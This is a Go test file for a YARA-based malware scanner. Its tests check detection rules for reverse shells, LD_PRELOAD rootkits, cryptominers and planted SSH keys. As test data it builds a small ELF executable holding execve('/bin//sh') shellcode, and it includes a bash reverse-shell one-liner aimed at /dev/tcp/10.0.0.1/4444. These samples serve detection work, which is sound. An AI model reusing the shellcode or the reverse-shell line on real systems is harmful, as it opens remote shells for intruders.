package signatures

import (
	"bytes"
	"encoding/binary"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
)

func compileBuiltin(t testing.TB) *RuleSet {
	t.Helper()
	rs, err := Compile(Options{})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}
	t.Cleanup(rs.Close)
	return rs
}

func newScanner(t testing.TB, rs *RuleSet) *Scanner {
	t.Helper()
	s, err := rs.NewScanner()
	if err != nil {
		t.Fatalf("NewScanner: %v", err)
	}
	t.Cleanup(s.Close)
	return s
}

func ids(ms []Match) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.Rule.Meta.ID)
	}
	return out
}

// stagerELF builds a minimal ELF64 executable with no section headers whose
// code is an execve("/bin//sh") stub, the shape msfvenom and hand-written
// stagers have.
func stagerELF() []byte {
	code := []byte{
		0x48, 0x31, 0xf6, // xor rsi, rsi
		0x56,                                                       // push rsi
		0x48, 0xbf, 0x2f, 0x62, 0x69, 0x6e, 0x2f, 0x2f, 0x73, 0x68, // movabs rdi, "/bin//sh"
		0x57,       // push rdi
		0x54,       // push rsp
		0x5f,       // pop rdi
		0x6a, 0x3b, // push 59
		0x58,       // pop rax
		0x99,       // cdq
		0x0f, 0x05, // syscall
	}
	var b bytes.Buffer
	le := binary.LittleEndian
	const base = 0x400000
	hdr := struct {
		Ident                                                [16]byte
		Type, Machine                                        uint16
		Version                                              uint32
		Entry, Phoff, Shoff                                  uint64
		Flags                                                uint32
		Ehsize, Phentsize, Phnum, Shentsize, Shnum, Shstrndx uint16
	}{
		Ident: [16]byte{0x7f, 'E', 'L', 'F', 2, 1, 1}, Type: 2, Machine: 0x3e, Version: 1,
		Entry: base + 64 + 56, Phoff: 64, Ehsize: 64, Phentsize: 56, Phnum: 1,
	}
	binary.Write(&b, le, hdr)
	size := uint64(64 + 56 + len(code))
	binary.Write(&b, le, struct {
		Type, Flags                             uint32
		Off, Vaddr, Paddr, Filesz, Memsz, Align uint64
	}{1, 5, 0, base, base, size, size, 0x1000})
	b.Write(code)
	return b.Bytes()
}

// TestBuiltinRules scans each sample with the built-in rules as compiled, and as loaded from
// the compiled-rules cache by the next run: both must match the same.
func TestBuiltinRules(t *testing.T) {
	cache := filepath.Join(t.TempDir(), "yara-cache")
	saved, err := Compile(Options{CacheDir: cache})
	if err != nil {
		t.Fatal(err)
	}
	saved.Close()
	loaded, err := Compile(Options{CacheDir: cache})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(loaded.Close)
	if saved.builtinCached != 0 || loaded.builtinCached != builtinClasses {
		t.Fatalf("classes from the cache: %d on the first run (want 0), %d on the next (want %d)", saved.builtinCached, loaded.builtinCached, builtinClasses)
	}
	for _, mode := range []struct {
		name string
		rs   *RuleSet
	}{{"compiled", compileBuiltin(t)}, {"cached", loaded}} {
		t.Run(mode.name, func(t *testing.T) { builtinRules(t, mode.rs) })
	}
}

func builtinRules(t *testing.T, rs *RuleSet) {
	s := newScanner(t, rs)
	tests := []struct {
		file string // under testdata/; "" means data
		data []byte
		path string // where the file sits in the image
		want []string
	}{
		{file: "pos/rs020_revshell.elf", path: "/usr/bin/kupdate", want: []string{"STRATA-RS-020"}},
		{file: "pos/lp001_preload_shell.so", path: "/usr/lib/libsys.so", want: []string{"STRATA-LP-001"}},
		{file: "pos/lp002_constructor.so", path: "/usr/lib/libenv.so", want: []string{"STRATA-LP-002"}},
		{file: "pos/lp003_respawn.so", path: "/usr/lib/libhook.so", want: []string{"STRATA-LP-003"}},
		{file: "pos/lp004_readdir.so", path: "/usr/lib/libprocesshider.so", want: []string{"STRATA-LP-004"}},
		{file: "pos/lp010_ld.so.preload", path: "/etc/ld.so.preload", want: []string{"STRATA-LP-010", "STRATA-LP-011"}},
		{file: "pos/lp011_ld.so.preload", path: "/etc/ld.so.preload", want: []string{"STRATA-LP-011"}},
		{data: stagerELF(), path: "/tmp/.x", want: []string{"STRATA-MW-001"}},
		{file: "pos/mn001_xmrig.txt", path: "/opt/help.txt", want: []string{"STRATA-MN-001"}},
		{file: "pos/mn002_start.sh", path: "/opt/start.sh", want: []string{"STRATA-MN-002"}},
		{file: "pos/mn003_config.json", path: "/opt/config.json", want: []string{"STRATA-MN-003"}},
		{file: "pos/mn003_pool_list.txt", path: "/opt/xmr-stak/pools.txt", want: []string{"STRATA-MN-003"}},
		{file: "pos/mn002_caps.sh", path: "/opt/start2.sh", want: []string{"STRATA-MN-002"}},
		{file: "pos/mn004_pool.sh", path: "/opt/run.sh", want: []string{"STRATA-MN-004"}},
		{file: "pos/mn004_caps.sh", path: "/opt/run2.sh", want: []string{"STRATA-MN-004"}},
		{file: "pos/sk001_authorized_keys", path: "/home/deploy/.ssh/authorized_keys", want: []string{"STRATA-SK-001"}},
		{file: "pos/sk002_authorized_keys", path: "/root/.ssh/authorized_keys", want: []string{"STRATA-SK-002"}},

		{file: "neg/healthcheck.elf", path: "/usr/local/bin/healthcheck"},
		{file: "neg/nginx.conf", path: "/etc/nginx/sites-available/default"},
		{file: "neg/contact.php", path: "/var/www/html/contact.php"},
		{file: "neg/pools.json", path: "/app/config.json"},
		{file: "neg/known_hosts", path: "/root/.ssh/known_hosts"},
		{file: "neg/ld.so.preload", path: "/etc/ld.so.preload"},
		{file: "neg/page.jsp", path: "/usr/local/tomcat/webapps/ROOT/page.jsp"},
		{file: "neg/Default.aspx", path: "/app/wwwroot/Default.aspx"},
		{file: "neg/miner_faq.txt", path: "/usr/share/doc/policy.txt"},
		// The same content out of the places that make it dangerous.
		{file: "pos/lp010_ld.so.preload", path: "/usr/share/doc/example/ld.so.preload"},
		{file: "pos/sk002_authorized_keys", path: "/usr/share/doc/example/keys.txt"},
	}
	seen := map[string]bool{}
	for _, tt := range tests {
		name := tt.file
		if name == "" {
			name = tt.path
		}
		t.Run(name+"@"+tt.path, func(t *testing.T) {
			data := tt.data
			if tt.file != "" {
				var err error
				if data, err = os.ReadFile(filepath.Join("testdata", tt.file)); err != nil {
					t.Fatal(err)
				}
			}
			ms, err := s.Scan(FileInfo{Path: tt.path, Owner: "root", Size: int64(len(data))}, data)
			if err != nil {
				t.Fatalf("Scan: %v", err)
			}
			got := ids(ms)
			slices.Sort(got)
			want := slices.Clone(tt.want)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("matched %v, want %v", got, want)
			}
			for _, m := range ms {
				seen[m.Rule.Meta.ID] = true
				if len(m.Strings) == 0 && !strings.HasPrefix(m.Rule.Meta.ID, "STRATA-RS-020") && !strings.HasPrefix(m.Rule.Meta.ID, "STRATA-LP-00") {
					t.Errorf("%s: no matched strings reported", m.Rule.Meta.ID)
				}
			}
		})
	}
	for _, r := range rs.Rules() {
		if !seen[r.Meta.ID] {
			t.Errorf("built-in rule %s (%s) has no positive sample", r.Meta.ID, r.Name)
		}
	}
}

func TestBuiltinMeta(t *testing.T) {
	rs := compileBuiltin(t)
	ids := map[string]bool{}
	if len(rs.Rules()) == 0 {
		t.Fatal("no built-in rules")
	}
	for _, r := range rs.Rules() {
		if !strings.HasPrefix(r.Meta.ID, "STRATA-") || ids[r.Meta.ID] {
			t.Errorf("%s: id %q missing, malformed or duplicated", r.Name, r.Meta.ID)
		}
		ids[r.Meta.ID] = true
		if !slices.Contains(Categories, r.Meta.Category) {
			t.Errorf("%s: category %q", r.Meta.ID, r.Meta.Category)
		}
		if SeverityRank(r.Meta.Severity) < 0 {
			t.Errorf("%s: severity %q", r.Meta.ID, r.Meta.Severity)
		}
		if r.Meta.Description == "" {
			t.Errorf("%s: no description", r.Meta.ID)
		}
		if !strings.HasPrefix(r.Source, "builtin:") || !strings.Contains(r.Source, ".yar:") {
			t.Errorf("%s: source %q", r.Meta.ID, r.Source)
		}
	}
	if w := rs.Warnings(); len(w) > 0 {
		t.Errorf("built-in rules compile with warnings: %v", w)
	}
}

// TestSystemFiles scans files of the machine running the tests that naive
// rules trip over: bash (which holds "/dev/tcp"), busybox (nc, telnet),
// libc (defines connect, dup2, execve), python's socket module, netcat,
// bash's docs, cron scripts and systemd units. None may reach high.
func TestSystemFiles(t *testing.T) {
	rs := compileBuiltin(t)
	s := newScanner(t, rs)
	patterns := []string{
		"/usr/bin/bash", "/bin/bash", "/bin/busybox", "/usr/bin/busybox", "/bin/sh", "/usr/bin/dash",
		"/usr/lib/python3*/socket.py", "/usr/lib/python3*/pty.py", "/usr/lib/python3*/subprocess.py",
		"/usr/lib/python3*/asyncio/*.py", "/usr/lib/python3*/http/server.py",
		"/usr/share/doc/bash/*", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/lib/x86_64-linux-gnu/libc.so.6",
		"/usr/lib/aarch64-linux-gnu/libc.so.6", "/lib/ld-musl-*.so.1", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		"/usr/bin/nc*", "/bin/nc*", "/usr/bin/ncat", "/usr/bin/socat", "/usr/bin/telnet*", "/usr/bin/curl",
		"/usr/bin/wget", "/usr/bin/perl", "/usr/bin/python3*", "/usr/bin/ssh", "/usr/sbin/sshd",
		"/usr/bin/gawk", "/usr/bin/awk", "/usr/bin/node", "/usr/lib/x86_64-linux-gnu/libfakeroot/*",
		"/usr/lib/x86_64-linux-gnu/security/*.so", "/etc/cron.daily/*", "/etc/cron.d/*", "/etc/crontab",
		"/etc/init.d/*", "/etc/profile", "/etc/profile.d/*", "/etc/bash.bashrc", "/etc/skel/.*",
		"/lib/systemd/system/*.service", "/usr/lib/systemd/system/*.service", "/etc/systemd/system/*.service",
		"/etc/nginx/*.conf", "/etc/apache2/*.conf", "/usr/share/doc/socat/examples/*", "/usr/share/doc/socat/*.html", "/etc/ssh/*_config", "/usr/share/perl/*/IO/Socket/*.pm",
		"/usr/lib/x86_64-linux-gnu/libwrap.so.*", "/lib/x86_64-linux-gnu/libwrap.so.*", // tcp_wrappers: twist/spawn run /bin/sh on the socket
	}
	n := 0
	for _, p := range patterns {
		files, _ := filepath.Glob(p)
		for _, f := range files {
			fi, err := os.Stat(f)
			if err != nil || !fi.Mode().IsRegular() {
				continue
			}
			data, err := os.ReadFile(f)
			if err != nil {
				continue
			}
			n++
			ms, err := s.Scan(FileInfo{Path: f, Owner: "root", Size: fi.Size()}, data)
			if err != nil {
				t.Errorf("%s: %v", f, err)
			}
			for _, m := range ms {
				if SeverityRank(m.Rule.Meta.Severity) >= SeverityRank("high") {
					t.Errorf("%s: matched %s (%s)", f, m.Rule.Meta.ID, m.Rule.Meta.Severity)
				} else {
					t.Logf("%s: matched %s (%s)", f, m.Rule.Meta.ID, m.Rule.Meta.Severity)
				}
			}
		}
	}
	if n == 0 {
		t.Skip("none of the system files are present")
	}
	t.Logf("scanned %d system files", n)
}

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

const externalsRule = `
rule uses_every_external {
    meta:
        id = "USER-EXT-1"
        severity = "low"
        category = "persistence"
        description = "all five externals"
    condition:
        filename == "evil.php" and
        filepath matches /^\/var\/www\// and
        extension == ".php" and
        filetype == "PHP" and
        owner == "www-data"
}
`

func TestUserRules(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"ext.yar": externalsRule,
		"sub/marker.yara": `rule marker : webshell {
    meta:
        score = 80
    strings:
        $m = "STRATA-TEST-MARKER"
    condition:
        $m
}`,
		// Same rule name in another file: namespaces keep them apart.
		"sub/deeper/marker2.yar": `rule marker { strings: $m = "OTHER-MARKER" condition: $m }`,
		"notes.txt":              "not a rule file",
		".git/x.yar":             "this would not compile",
	})
	rs, err := Compile(Options{Paths: []string{dir}, NoBuiltin: true})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}
	defer rs.Close()

	var names []string
	for _, r := range rs.Rules() {
		names = append(names, r.Namespace+"/"+r.Name)
	}
	want := []string{"ext.yar/uses_every_external", "sub/deeper/marker2.yar/marker", "sub/marker.yara/marker"}
	if !slices.Equal(names, want) {
		t.Fatalf("rules %v, want %v (NoBuiltin must leave the built-ins out)", names, want)
	}
	r := rs.Rules()[2]
	if r.Meta.Severity != "high" || r.Meta.Category != "webshell" || r.Meta.ID != "sub/marker.yara:marker" {
		t.Errorf("defaults from score and tag: got %+v", r.Meta)
	}
	if want := filepath.Join(dir, "sub/marker.yara") + ":1"; r.Source != want {
		t.Errorf("source %q, want %q", r.Source, want)
	}

	s := newScanner(t, rs)
	php := []byte("<?php echo 1; ?>")
	for _, tt := range []struct {
		info FileInfo
		want bool
	}{
		{FileInfo{Path: "/var/www/evil.php", Owner: "www-data"}, true},
		{FileInfo{Path: "var/www/evil.php", Owner: "www-data"}, true}, // made absolute
		{FileInfo{Path: "/var/www/evil.php", Owner: "root"}, false},
		{FileInfo{Path: "/srv/evil.php", Owner: "www-data"}, false},
		{FileInfo{Path: "/var/www/other.php", Owner: "www-data"}, false},
		{FileInfo{Path: "/var/www/evil.php", Owner: "www-data"}, true}, // externals re-set after a miss
	} {
		ms, err := s.Scan(tt.info, php)
		if err != nil {
			t.Fatal(err)
		}
		got := slices.Contains(ids(ms), "USER-EXT-1")
		if got != tt.want {
			t.Errorf("%+v: matched=%v, want %v", tt.info, got, tt.want)
		}
	}
	ms, err := s.Scan(FileInfo{Path: "/x"}, []byte("a STRATA-TEST-MARKER and OTHER-MARKER"))
	if err != nil {
		t.Fatal(err)
	}
	if len(ms) != 2 {
		t.Fatalf("marker matches: %+v", ms)
	}
	for _, m := range ms {
		if m.Rule.Namespace != "sub/marker.yara" {
			continue
		}
		if ms := m.Strings[0]; ms.ID != "$m" || string(ms.Data) != "STRATA-TEST-MARKER" || ms.Offset != 2 {
			t.Errorf("marker string: %+v", ms)
		}
	}

	// With the built-ins, both sets are there.
	all, err := Compile(Options{Paths: []string{dir}})
	if err != nil {
		t.Fatal(err)
	}
	defer all.Close()
	if len(all.Rules()) != len(rs.Rules())+len(compileBuiltin(t).Rules()) {
		t.Errorf("built-in plus user: %d rules", len(all.Rules()))
	}
}

func TestCompileErrorNamesFileAndLine(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"a_good.yar": `rule good { condition: true }`,
		"b_bad.yar":  "rule bad\n{\n    strings:\n        $a = \"x\"\n    condition:\n        $a and and\n}\n",
		"c_bad.yar":  "rule undefined_ident { condition: nosuchthing }\n",
	})
	_, err := Compile(Options{Paths: []string{dir}})
	var ce *CompileError
	if !errors.As(err, &ce) {
		t.Fatalf("Compile: %v, want a *CompileError", err)
	}
	bad := filepath.Join(dir, "b_bad.yar")
	if d := ce.Diagnostics[0]; d.File != bad || d.Line != 6 {
		t.Errorf("diagnostic %+v, want %s line 6", d, bad)
	}
	if !strings.Contains(err.Error(), bad+":6:") {
		t.Errorf("error %q does not name file and line", err)
	}

	// Check reports every broken file, not only the first.
	_, _, err = Check([]string{dir})
	if !errors.As(err, &ce) || len(ce.Diagnostics) != 2 {
		t.Fatalf("Check: %v, want two diagnostics", err)
	}
	if d := ce.Diagnostics[1]; d.File != filepath.Join(dir, "c_bad.yar") || d.Line != 1 {
		t.Errorf("second diagnostic %+v", d)
	}

	// Check on good rules lists them, with warnings.
	good := t.TempDir()
	writeFiles(t, good, map[string]string{"slow.yar": "rule fast { strings: $a = \"strata\" condition: $a }\n" +
		"rule slow {\n strings:\n  $a = /[a-z]+/\n  $b = { 4D ?? ?? 5A }\n condition: $a or $b\n}\n"})
	rules, warnings, err := Check([]string{good})
	if err != nil || len(rules) != 2 || rules[1].Name != "slow" {
		t.Fatalf("Check: %v %v", rules, err)
	}
	if len(warnings) != 2 {
		t.Fatalf("warnings %v, want two about slow.yar", warnings)
	}
	for i, w := range warnings {
		if w.File != filepath.Join(good, "slow.yar") || w.Rule != "slow" || w.Line != 4+i || !w.Slow() ||
			!strings.Contains(w.String(), "slow.yar:"+strconv.Itoa(4+i)+": rule slow: string") {
			t.Errorf("warning %d: %+v %s", i, w, w)
		}
	}

	if _, _, err := Check([]string{t.TempDir()}); err == nil {
		t.Error("Check of a dir without rules: no error")
	}
	if _, err := Compile(Options{Paths: []string{filepath.Join(dir, "missing")}}); err == nil {
		t.Error("Compile of a missing path: no error")
	}
}

func TestHash(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "r.yar")
	hash := func() string {
		rs, err := Compile(Options{Paths: []string{dir}})
		if err != nil {
			t.Fatal(err)
		}
		defer rs.Close()
		return rs.Hash()
	}
	writeFiles(t, dir, map[string]string{"r.yar": `rule r { strings: $a = "one" condition: $a }`})
	h1, h1again := hash(), hash()
	if h1 != h1again || len(h1) != 64 {
		t.Fatalf("hash not stable: %s %s", h1, h1again)
	}
	if err := os.WriteFile(p, []byte(`rule r { strings: $a = "two" condition: $a }`), 0o644); err != nil {
		t.Fatal(err)
	}
	if h2 := hash(); h2 == h1 {
		t.Error("hash unchanged after the rule changed")
	}
	builtinOnly := compileBuiltin(t).Hash()
	noBuiltin, err := Compile(Options{Paths: []string{dir}, NoBuiltin: true})
	if err != nil {
		t.Fatal(err)
	}
	defer noBuiltin.Close()
	if builtinOnly == noBuiltin.Hash() || noBuiltin.Hash() == hash() {
		t.Error("hash does not tell rule sets apart")
	}
}

func TestScanReader(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"m.yar": `rule tail { strings: $a = "TAIL" condition: $a }`})
	rs, err := Compile(Options{Paths: []string{dir}, NoBuiltin: true, MaxFileSize: 1024})
	if err != nil {
		t.Fatal(err)
	}
	defer rs.Close()
	s := newScanner(t, rs)

	small := append(bytes.Repeat([]byte("a"), 100), "TAIL"...)
	for _, size := range []int64{0, int64(len(small)), 3} { // unknown, exact, understated
		ms, err := s.ScanReader(FileInfo{Path: "/a", Size: size}, bytes.NewReader(small))
		if err != nil || len(ms) != 1 {
			t.Errorf("size %d: %v %v", size, ids(ms), err)
		}
	}
	big := append(bytes.Repeat([]byte("a"), 2000), "TAIL"...)
	ms, err := s.ScanReader(FileInfo{Path: "/big", Size: int64(len(big))}, bytes.NewReader(big))
	if !errors.Is(err, ErrTruncated) || len(ms) != 0 {
		t.Errorf("big file: %v %v, want ErrTruncated and no match", ids(ms), err)
	}
	head := append([]byte("TAIL"), bytes.Repeat([]byte("a"), 2000)...)
	ms, err = s.ScanReader(FileInfo{Path: "/big"}, bytes.NewReader(head))
	if !errors.Is(err, ErrTruncated) || len(ms) != 1 {
		t.Errorf("big file, match in head: %v %v", ids(ms), err)
	}
	ms, err = s.ScanReader(FileInfo{Path: "/e"}, bytes.NewReader(nil))
	if err != nil || len(ms) != 0 {
		t.Errorf("empty file: %v %v", ids(ms), err)
	}
	if _, err := s.ScanReader(FileInfo{Path: "/r"}, errReader{}); err == nil {
		t.Error("read error not reported")
	}
}

type errReader struct{}

func (errReader) Read([]byte) (int, error) { return 0, errors.New("boom") }

func TestMatchDataCapped(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"s.yar": `rule long { meta: category = "secret" strings: $a = /KEY=[A-Z]{100}/ condition: $a }`})
	rs, err := Compile(Options{Paths: []string{dir}, NoBuiltin: true})
	if err != nil {
		t.Fatal(err)
	}
	defer rs.Close()
	s := newScanner(t, rs)
	ms, err := s.Scan(FileInfo{Path: "/env"}, []byte("KEY="+strings.Repeat("Q", 100)))
	if err != nil || len(ms) != 1 {
		t.Fatalf("%v %v", ids(ms), err)
	}
	m := ms[0].Strings[0]
	if len(m.Data) != MaxMatchData || m.Length != 104 {
		t.Errorf("data %d bytes, length %d", len(m.Data), m.Length)
	}
	if r := m.Redacted(); !strings.HasPrefix(r, "KEY=") || strings.Contains(r, "Q") || len(r) != 104 {
		t.Errorf("Redacted() = %q", r)
	}
	if ms[0].Rule.Meta.Category != "secret" {
		t.Errorf("category %q", ms[0].Rule.Meta.Category)
	}
}

func TestDetectFileType(t *testing.T) {
	elf, err := os.ReadFile("testdata/pos/rs020_revshell.elf")
	if err != nil {
		t.Fatal(err)
	}
	tar := make([]byte, 512)
	copy(tar[257:], "ustar")
	pe := make([]byte, 0x84)
	copy(pe, "MZ\x90\x00")
	pe[0x3c] = 0x80 // e_lfanew
	copy(pe[0x80:], "PE\x00\x00")
	tests := []struct {
		data string
		name string
		want string
	}{
		{"", "x", TypeEmpty},
		{string(elf), "x", TypeELF},
		{string(pe), "a.exe", TypePE},
		{"MZ is how this text starts\n", "notes.txt", TypeText},
		{"\x1f\x8b\x08", "a.gz", TypeArchive},
		{"PK\x03\x04", "a.jar", TypeArchive},
		{string(tar), "a.tar", TypeArchive},
		{"\xca\xfe\xba\xbe\x00\x00\x00\x34", "A.class", TypeClass},
		{"\x89PNG\r\n\x1a\n", "a.png", TypeImage},
		{"#!/bin/sh\necho hi\n", "run", TypeScript},
		{"print('hi')\n", "a.py", TypeScript},
		{"<html><?php echo 1; ?>", "index.html", TypePHP},
		{"anything", "x.php", TypePHP},
		{"<%@ page import=\"java.io.*\" %>", "x", TypeJSP},
		{"<%@ Page Language=\"C#\" %>", "x", TypeASPX},
		{"hello", "a.aspx", TypeASPX},
		{"plain words\n", "README", TypeText},
		{"\x00\x01\x02\x03", "blob", TypeBinary},
		{"#!/bin/sh\x00\x00\x00", "x", TypeBinary},
	}
	for _, tt := range tests {
		if got := DetectFileType([]byte(tt.data), tt.name); got != tt.want {
			t.Errorf("DetectFileType(%q, %q) = %q, want %q", tt.data[:min(len(tt.data), 12)], tt.name, got, tt.want)
		}
	}
}

// TestConcurrentScanners runs one Scanner per goroutine over the samples,
// as the pipeline does; run it with -race.
func TestConcurrentScanners(t *testing.T) {
	rs := compileBuiltin(t)
	files, _ := filepath.Glob("testdata/pos/*")
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			s, err := rs.NewScanner()
			if err != nil {
				t.Error(err)
				return
			}
			defer s.Close()
			for i := 0; i < 5; i++ {
				for _, f := range files {
					data, _ := os.ReadFile(f)
					if _, err := s.Scan(FileInfo{Path: "/x/" + filepath.Base(f)}, data); err != nil {
						t.Error(err)
					}
				}
			}
		}()
	}
	wg.Wait()
}

// TestFileClassGates checks which files built-in rules look at (see Scanner.Scan) and that
// user rules still see every file.
func TestFileClassGates(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"u.yar": `rule user_devtcp { strings: $a = "/dev/tcp/" condition: $a }`})
	rs, err := Compile(Options{Paths: []string{dir}})
	if err != nil {
		t.Fatal(err)
	}
	defer rs.Close()
	s := newScanner(t, rs)

	oneLiner := []byte("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
	random := make([]byte, 4096)
	for i := range random {
		random[i] = byte(i*7919 + i>>3)
	}
	random[0] = 0 // not text
	elf, err := os.ReadFile("testdata/pos/rs020_revshell.elf")
	if err != nil {
		t.Fatal(err)
	}
	stratum := []byte(" stratum+tcp://pool.example.net:3333 ")
	var tarHead [512]byte
	copy(tarHead[257:], "ustar")
	tests := []struct {
		name string
		path string
		data []byte
		want []string
	}{
		// Shell one-liners are the shell analyzer's (audit/shell); user rules see scripts too.
		{"one-liner in a script", "/opt/x.sh", oneLiner, []string{"user_devtcp"}},
		// Not runnable from inside a blob; user rules still look.
		{"one-liner appended to random bytes", "/opt/blob", append(slices.Clone(random), oneLiner...), []string{"user_devtcp"}},
		{"one-liner in a gzip stream", "/opt/x.gz", append([]byte{0x1f, 0x8b, 8, 0}, oneLiner...), []string{"user_devtcp"}},
		{"one-liner in a PNG", "/srv/a.png", append([]byte("\x89PNG\r\n\x1a\n"), oneLiner...), []string{"user_devtcp"}},
		// ELF files get the ELF rules and the scope-any rules: a miner's pool URL in a binary.
		{"ELF reverse shell", "/usr/bin/kupdate", elf, []string{"STRATA-RS-020"}},
		{"ELF with a pool URL", "/usr/bin/kworker", append(slices.Clone(elf), stratum...), []string{"STRATA-RS-020", "STRATA-MN-002"}},
		{"tar holding a pool URL", "/opt/a.tar", append(tarHead[:], stratum...), []string{"STRATA-MN-002"}},
		{"ld.so.preload", "/etc/ld.so.preload", []byte("/tmp/.x/libz.so\n"), []string{"STRATA-LP-010", "STRATA-LP-011"}},
	}
	for _, tt := range tests {
		ms, err := s.Scan(FileInfo{Path: tt.path, Owner: "root", Size: int64(len(tt.data))}, tt.data)
		if err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
		var got []string
		for _, m := range ms {
			if m.Rule.Namespace == "u.yar" {
				got = append(got, m.Rule.Name)
			} else {
				got = append(got, m.Rule.Meta.ID)
			}
		}
		slices.Sort(got)
		want := slices.Clone(tt.want)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%s: matched %v, want %v", tt.name, got, want)
		}
	}
}

// The scanner skips the ELF rules for ELF files of 2 MB and more, and computes the ELF facts
// only below that: every reporting ELF rule must be limited to smaller files.
func TestELFRulesAreLimitedToSmallFiles(t *testing.T) {
	text, err := builtinFS.ReadFile("rules/elf.yar")
	if err != nil {
		t.Fatal(err)
	}
	rules := regexp.MustCompile(`(?ms)^(private )?rule (\w+)\s*\{.*?condition:(.*?)^\}`).FindAllStringSubmatch(string(text), -1)
	if len(rules) < 5 {
		t.Fatalf("found %d rules in elf.yar", len(rules))
	}
	limit := regexp.MustCompile(`filesize < (\d+)(KB|MB)`)
	for _, r := range rules {
		if r[1] != "" {
			continue
		}
		m := limit.FindStringSubmatch(r[3])
		if m == nil {
			t.Errorf("%s: no filesize limit in its condition", r[2])
			continue
		}
		n, _ := strconv.Atoi(m[1])
		if m[2] == "MB" {
			n <<= 20
		} else {
			n <<= 10
		}
		if n > elfFactsMaxSize {
			t.Errorf("%s: limited to %d bytes, more than the %d the ELF facts are computed for", r[2], n, elfFactsMaxSize)
		}
	}
}

// User rules written for other tools name what they find in their tags, name or description:
// a web shell rule is a web shell, not malware; ATT&CK meta becomes techniques.
func TestUserRuleCategories(t *testing.T) {
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{"public.yar": `
rule WEBSHELL_PHP_Generic_Eval { meta: description = "php eval of request input" strings: $a = "x1" condition: $a }
rule HKTL_Reverse_Shell_Bash { meta: description = "bash one-liner" mitre_att = "T1059.004" strings: $a = "x2" condition: $a }
rule MAL_Linux_XMRig_Miner { meta: description = "cryptominer" strings: $a = "x3" condition: $a }
rule Some_Rule : webshell persistence { strings: $a = "x4" condition: $a }
rule Generic_Backdoor { meta: description = "a backdoor that installs a crontab and an LD_PRELOAD rootkit" strings: $a = "x5" condition: $a }
rule Says_Its_Category { meta: category = "miner" description = "a web shell that mines" strings: $a = "x6" condition: $a }
rule Nothing_Named { meta: description = "determiner of shells" strings: $a = "x7" condition: $a }
`})
	rs, err := Compile(Options{Paths: []string{dir}, NoBuiltin: true})
	if err != nil {
		t.Fatal(err)
	}
	defer rs.Close()
	want := map[string]string{
		"WEBSHELL_PHP_Generic_Eval": "webshell", "HKTL_Reverse_Shell_Bash": "reverse-shell T1059.004",
		"MAL_Linux_XMRig_Miner": "miner", "Some_Rule": "webshell persistence", "Generic_Backdoor": "ld-preload persistence",
		"Says_Its_Category": "miner", "Nothing_Named": "malware",
	}
	for _, r := range rs.Rules() {
		got := strings.Join(append(append([]string{r.Meta.Category}, r.Meta.Labels...), r.Meta.Techniques...), " ")
		if got != want[r.Name] {
			t.Errorf("%s: %q, want %q", r.Name, got, want[r.Name])
		}
	}
}
